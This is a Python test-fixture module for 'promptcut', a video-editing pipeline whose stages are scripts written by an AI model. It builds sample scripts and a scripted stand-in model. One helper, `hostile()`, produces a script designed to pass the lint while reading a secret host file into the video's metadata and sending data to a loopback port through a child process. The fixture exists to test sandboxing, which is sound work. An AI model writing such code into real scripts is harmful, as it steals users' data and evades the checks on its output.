"""For the tests of model-written steps: scripts a model might write (one that works, ones that
fail in each way, hostile ones), and a scripted stand-in for the model's two jobs, planning and
writing scripts."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from pydantic_ai.messages import ModelMessage, ModelResponse, ToolCallPart
from pydantic_ai.models.function import AgentInfo

#: 16-pixel blocks: shrink by 16 with nearest-neighbour, grow back the same way.
PIXELATE_FILTER = "scale=iw/16:ih/16:flags=neighbor,scale=iw*16:ih*16:flags=neighbor"

_SCRIPT = '''\
#!/usr/bin/env python3
"""promptcut custom stage: {what}."""

from __future__ import annotations

import argparse
import os
import subprocess
import sys

INPUTS = {{"main": "input.mp4"}}
OUTPUT = "output.mp4"


def command(inputs: dict[str, str], output: str, vf: str, extra: list[str]) -> list[str]:
    ffmpeg = os.environ.get("PROMPTCUT_FFMPEG") or "ffmpeg"
    return [
        ffmpeg, "-hide_banner", "-nostdin", "-y", "-loglevel", "error",
        "-protocol_whitelist", "file,pipe", "-i", inputs["main"],
        "-vf", vf, "-c:v", "libx264", "-preset", "ultrafast", "-pix_fmt", "yuv420p",
        "-c:a", "aac", *extra, output,
    ]


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--output", default=OUTPUT)
    parser.add_argument("--input", action="append", default=[], metavar="NAME=PATH")
    options = parser.parse_args()
    inputs = dict(INPUTS)
    for item in options.input:
        name, _, path = item.partition("=")
        inputs[name] = path
{before}
    cmd = command(inputs, options.output, {vf!r}, {extra})
    progress = os.environ.get("PROMPTCUT_PROGRESS")
    if progress:
        cmd[1:1] = ["-progress", progress, "-nostats"]
    return subprocess.run(cmd).returncode


if __name__ == "__main__":
    sys.exit(main())
'''


def script(
    vf: str = PIXELATE_FILTER, *, before: str = "", extra: str = "[]", what: str = "pixelate"
) -> str:
    """A contract-keeping stage script running one ffmpeg command with the video filter `vf`;
    `before` is Python run first (indented into main), `extra` a Python list expression of
    output options."""
    body = "\n".join(f"    {line}" for line in before.strip().splitlines())
    return _SCRIPT.format(vf=vf, before=body, extra=extra, what=what)


GOOD = script()
#: ffmpeg refuses it: there is no such filter.
UNKNOWN_FILTER = script("scale=iw/16:ih/16,pixelizee")
#: Exits 0, but an ffmpeg run inside it failed first: the exit code alone would pass it.
ERRORS_BUT_EXIT_0 = script(
    before='subprocess.run([os.environ.get("PROMPTCUT_FFMPEG") or "ffmpeg", "-nostdin", '
    '"-loglevel", "error", "-i", "/nonexistent/input.mp4", "-f", "null", "-"])'
)
#: Halves the length the plan said is kept.
WRONG_LENGTH = script(extra='["-t", "1"]')
#: The lint refuses the import.
IMPORTS_SOCKET = GOOD.replace("import argparse\n", "import argparse\nimport socket\n")


def hostile(secret_file: str, port: int) -> str:
    """A script that passes the lint and still tries to steal a host file into the output's
    metadata and to reach a loopback port through a child process; then does its job."""
    before = f"""
stolen = "none"
try:
    with open({secret_file!r}, encoding="utf-8") as f:
        stolen = f.read().strip()
except OSError as e:
    stolen = "blocked: " + type(e).__name__
probe = "import socket; socket.create_connection(('127.0.0.1', {port}), 2).sendall(b'leak')"
subprocess.run([sys.executable, "-c", probe], stderr=subprocess.DEVNULL)
"""
    # The stolen text would ride out in the file's metadata.
    return script(before=before, extra='["-metadata", "comment=" + stolen]')


PIXELATE_PLAN = {
    "version": 1,
    "steps": [
        {
            "task": "pixelate the whole picture into big square blocks",
            "op": "custom",
            "params": {"description": "pixelate the whole picture into 16x16 pixel blocks"},
        }
    ],
}


def is_planner(instructions: str | None) -> bool:
    return (instructions or "").startswith("You are the planner of promptcut")


@dataclass
class Model:
    """A FunctionModel body that plans with `plan` and answers the script writer with each
    of `scripts` in turn (the last one again if it runs out); keeps what each request said."""

    plan: dict[str, Any] | Callable[[int], dict[str, Any]]
    scripts: list[str]
    planner_requests: list[str] = field(default_factory=list)
    script_requests: list[str] = field(default_factory=list)

    def __call__(self, messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        said = json.dumps(
            [getattr(p, "content", "") for m in messages for p in m.parts], default=str
        )
        tool = info.output_tools[0].name
        if is_planner(info.instructions):
            self.planner_requests.append(said)
            n = len(self.planner_requests)
            plan = self.plan(n) if callable(self.plan) else self.plan
            return ModelResponse(parts=[ToolCallPart(tool, plan)])
        self.script_requests.append(said)
        n = min(len(self.script_requests), len(self.scripts)) - 1
        return ModelResponse(parts=[ToolCallPart(tool, {"script": self.scripts[n]})])
